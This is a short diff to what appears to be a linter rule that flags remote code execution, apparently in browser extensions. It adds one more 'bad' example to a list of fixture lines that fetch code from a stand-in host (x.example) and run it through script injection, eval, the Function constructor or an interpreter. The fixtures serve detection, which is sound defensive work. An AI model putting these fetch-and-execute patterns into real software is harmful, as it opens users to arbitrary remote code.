@@ -40,6 +40,7 @@ export const remoteCode = defineRule({
       contentExample('fetch("https://x.example/a").then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
       backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { [].constructor.constructor(e.data)(); };'),
       backgroundExample('$.get("https://x.example/r", (r) => { setTimeout("run(" + r + ")", 10); });'),
+      backgroundExample('fetch("https://x.example/p").then((r) => r.text()).then((p) => { const i = new Interpreter(p); i.run(); });'),
       { files: { 'setup.js': 'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });' } },
     ],
     good: [
